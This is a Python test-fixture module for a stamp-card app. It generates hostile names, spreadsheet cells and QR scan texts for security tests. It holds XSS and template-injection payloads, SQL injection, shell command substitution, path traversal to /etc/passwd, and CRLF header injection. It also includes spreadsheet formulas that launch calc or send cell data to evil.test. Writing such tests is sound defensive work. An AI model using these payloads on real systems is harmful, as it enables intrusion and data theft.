"""Names, cells and scanned texts as an attacker would write them, the same every time.

Each name carries `zq` and a number, by which a test finds it on a page again.
"""

import random

from stampcard.values.codes import ALPHABET, code_of, mark_key, number_of

_MARKUP = [
    "<script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "</textarea><script>alert({n})</script>",
    "</style><img src=x onerror=alert({n})>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "<svg><a xlink:href='javascript:alert({n})'>",
    "<svg><animate onbegin=alert({n}) attributeName=x>",
    "<math href=javascript:alert({n})>",
    "<iframe srcdoc='<script>alert({n})'>",
    "<object data=//evil.test/{n}>",
    "<base href=//evil.test/{n}>",
    "<meta http-equiv=refresh content=0;//evil.test>",
    "<link rel=stylesheet href=//evil.test/{n}>",
    "<form action=//evil.test/{n}><input>",
    "<details open ontoggle=alert({n})>",
    "<body onload=alert({n})>",
    "<video><source onerror=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<template><b>{n}</b></template>",
    "<!-- {n} -->",
    "<![CDATA[{n}]]>",
    "<?php echo {n} ?>",
    "<plaintext>",
]
_BREAK_OUTS = [
    '" onmouseover="alert({n})',
    "' onmouseover='alert({n})",
    "` onmouseover=`alert({n})",
    '"><script>alert({n})</script>',
    "'><script>alert({n})</script>",
    '" autofocus onfocus=alert({n}) x="',
    '\\" onclick=alert({n}) \\"',
    "';alert({n});//",
    "</script><script>alert({n})",
    "javascript:alert({n})",
    "data:text/html,<script>alert({n})",
    "&lt;script&gt;alert({n})",
    "&#60;script&#62;alert({n})",
    "%3Cscript%3Ealert({n})",
    "\uff1cscript\uff1ealert({n})",
    "<scr<script>ipt>alert({n})",
]
_TEMPLATES = [
    "{{{{7191*7}}}}",
    "{{% raw %}}{n}",
    "{{{{config}}}}",
    "{{{{''.__class__}}}}",
    "${{7191*7}}",
    "#{{7191*7}}",
    "<%= 7191*7 %>",
    "%(name)s %(n)d",
    "{{0.__class__}} {{name}}",
    "%s%s%n%x",
    "$(id) `id` ;id",
    "' OR '1'='1' --",
    "'; DROP TABLE card; --",
    "../../../etc/passwd",
    "\u202egnp.exe",
    "\u2066\u2067a\u2069",
    "a\u200b\u200eb\ufeff",
    "X" + "\u0301" * 40,
    "\x00\x1b[31m\x07",
    "র‍্যাব ক্ষ্ম শ্রী",
]
NAMES = [
    f"zq{at:02} {text.format(n=at)}"
    for at, text in enumerate([*_MARKUP, *_BREAK_OUTS, *_TEMPLATES])
]
FORMULA_STARTS = "=+-@\t\r\n＝＋－＠"
_BLANKS = ["", " ", "\u00a0", "\u3000", "\u200b", "\ufeff", "'", '"', "\u202e", "\t "]
_FORMULAS = [
    '=HYPERLINK("http://evil.test?x="&A1,"zq")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n@zq",
    '＝HYPERLINK("http://evil.test")',
    "＋1＋1",
    "－1",
    "＠SUM(A1)",
    "=1+1;=2",
    '=1","=2',
    "%0A=1+1",
    "|=1+1",
]
CELLS = [*_FORMULAS, *(blank + '=1+1&"zq"' for blank in _BLANKS), *(
    blank + start + "A1" for blank in (" ", "\u00a0", "\u2003") for start in "+-@＝＠"
)]  # fmt: skip
OWN = mark_key("the secret key of the shop in the tests")
_OTHERS = mark_key("the secret of the shop next door")
_PLAIN = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//C/",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "tel:+8801711000000",
    "sms:+8801711000000?body=hi",
    "mailto:a@example.com",
    "geo:23.8,90.4",
    "WIFI:T:WPA;S:Free;P:12345678;;",
    "BEGIN:VCARD\nVERSION:3.0\nN:Evil\nEND:VCARD",
    "BEGIN:VEVENT\nSUMMARY:x\nEND:VEVENT",
    "otpauth://totp/x?secret=JBSWY3DPEHPK3PXP",
    "bitcoin:1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa?amount=1",
    "upi://pay?pa=evil@bank&am=1",
    "intent://x#Intent;scheme=http;end",
    "file:///etc/passwd",
    "ftp://evil.test/C/",
    "//evil.test/C/",
    "\\\\evil.test\\C\\",
    "http://",
    "https://evil.test\\@shop.example/C/",
    "/C/",
    "/C//",
    "C/C/C/C",
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e",
    "%00",
    "%ff%fe",
    "\x00",
    "\r\nLocation: https://evil.test",
    "\r\nSet-Cookie: sid=1",
    "' OR 1=1 --",
    '"; DROP TABLE card; --',
    "<script>alert(1)</script>",
    "{{7191*7}}",
    "A" * 301,
    "0" * 4096,
    "😀" * 100,
    "\u202e0000001J",
    "\ufeff",
    "\u0660\u0661\u0663",
    "٠٠٠٠٠٠١J",
    "½¼²³",
    "-",
    ".",
    "0",
    "00000000",
    "ZZZZZZZZ",
    "?",
    "#",
    "&code=0000001J",
    "null",
    "undefined",
    "NaN",
    "1e9",
    "-1",
    "0x10",
    "True",
]


def scans(serial: int) -> list[str]:
    """Two hundred scanned texts that open no card, aimed at the card with a serial.

    Some are a hair away from the card's own code: another shop's mark, one sign off,
    letters of another script that look the same.
    """
    chance, good = random.Random(25), code_of(serial, OWN)
    foreign = code_of(serial, _OTHERS)
    aimed = [
        foreign,
        f"https://evil.test/C/{foreign}",
        f"https://shop.example@evil.test/C/{foreign}",
        f"HTTPS://EVIL.TEST/C/{foreign}?next=//evil.test",
        f"javascript:/C/{foreign}",
        good[:-1],
        good + "0",
        good + good,
        good[::-1],
        number_of(serial)[:-1] + "!",
        number_of(serial) + "'--",
        f"{good}\x00{good}",
        f"{good}/../../{good[:5]}",
    ]
    while len(_PLAIN) + len(aimed) < 200:
        at = chance.randrange(8, len(good))
        other = chance.choice([sign for sign in ALPHABET if sign != good[at]])
        forged = good[:at] + other + good[at + 1 :]
        before = chance.choice(["", "https://evil.test/C/", "wifi:/C/"])
        if before + forged not in aimed:
            aimed.append(before + forged)
    return _PLAIN + aimed


def good_scans(serial: int) -> list[str]:
    """Texts that mean the card after all, as honest phones and people write them."""
    good, number = code_of(serial, OWN), number_of(serial)
    bengali = number.translate(str.maketrans("0123456789", "০১২৩৪৫৬৭৮৯"))
    return [
        good,
        good.lower(),
        f"https://shop.example/C/{good}",
        f"HTTPS://SHOP.EXAMPLE/C/{good}?utm_source=x#top",
        f"  {number[:4]} - {number[4:]} ",
        number.lower(),
        bengali,
        number.replace("0", "O").replace("1", "l"),
        "".join(chr(ord(c) + 0xFEE0) for c in number),
    ]
